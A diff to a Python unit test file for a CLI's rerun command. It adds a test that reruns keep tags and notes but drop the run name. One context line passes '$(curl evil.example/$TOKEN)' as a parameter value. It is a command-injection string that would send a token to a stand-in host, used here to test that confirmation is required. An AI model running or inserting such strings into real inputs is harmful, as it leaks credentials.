@@ -9,7 +9,7 @@ import pytest
 
 from riseml import wire
 from riseml.cli.capsule_source import CapsuleSource
-from riseml.cli.commands.rerun import confirm_rerun
+from riseml.cli.commands.rerun import RerunRequest, _prepare, confirm_rerun
 from riseml.cli.context import CommandContext
 from riseml.cli.output.printer import Printer
 from tests.unit.planning.test_capsule import capsule_of, make
@@ -61,3 +61,19 @@ def test_a_yes_is_for_one_run(tmp_path: Path, questions: list[str], digest: str)
     assert confirm(code="cd" * 32) == 1
     assert confirm(lr="$(curl evil.example/$TOKEN)") == 1
     assert confirm() == 0
+
+
+def test_a_rerun_has_the_tags_and_the_note_and_no_name(tmp_path: Path) -> None:
+    command = CommandContext(Printer(io.StringIO(), io.StringIO()), {"RISEML_HOME": str(tmp_path)}, tmp_path)
+    config = "project: toaster\ntrain: {image: base, run: python train.py, name: one, tags: [file]}\n"
+    capsule = capsule_of(make()) | {"name": "one", "tags": ["file", "later"], "note": "*why*", "parameters": {}}
+
+    def say(capsule: wire.Capsule, note: str | None = None) -> wire.RunAnnotation:
+        source = CapsuleSource("it", capsule, config)
+        submission, _ = _prepare(command, source, RerunRequest([], [], [], force=False, note=note))
+        return submission["annotation"]
+
+    assert say(capsule) == {"name": "", "tags": ["file", "later"], "note": "*why*"}
+    assert say(capsule, "again") == {"name": "", "tags": ["file", "later"], "note": "again"}
+    del capsule["tags"], capsule["note"]
+    assert say(capsule) == {"name": ""}, "an earlier version wrote none, and what riseml.yml says holds"
